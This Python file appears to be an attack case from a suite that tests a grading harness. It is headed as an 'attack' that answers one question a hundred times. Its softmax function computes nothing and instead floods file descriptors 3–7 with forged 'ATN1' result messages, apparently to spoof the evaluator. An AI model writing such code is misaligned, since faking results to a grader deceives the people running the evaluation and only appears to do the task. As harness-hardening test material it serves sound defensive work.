# /// attack
# what = "Answers the same question a hundred times, hoping that one will do."
# status = "any"
# ///

import json
import os
import struct

ONES = struct.pack("<15d", *([0.3] * 15))


def softmax(x, axis=-1):
    tree = json.dumps(
        {"d": [["value", {"a": ["<f8", [3, 5]]}], ["changed", {"l": []}], ["touched", False]]}
    ).encode()
    for descriptor in range(3, 8):
        for seq in range(100):
            head = struct.pack("<4sBxxxIIQ", b"ATN1", 16, seq, len(tree), len(ONES))
            try:
                os.write(descriptor, head + tree + ONES)
            except OSError:
                break
    return x
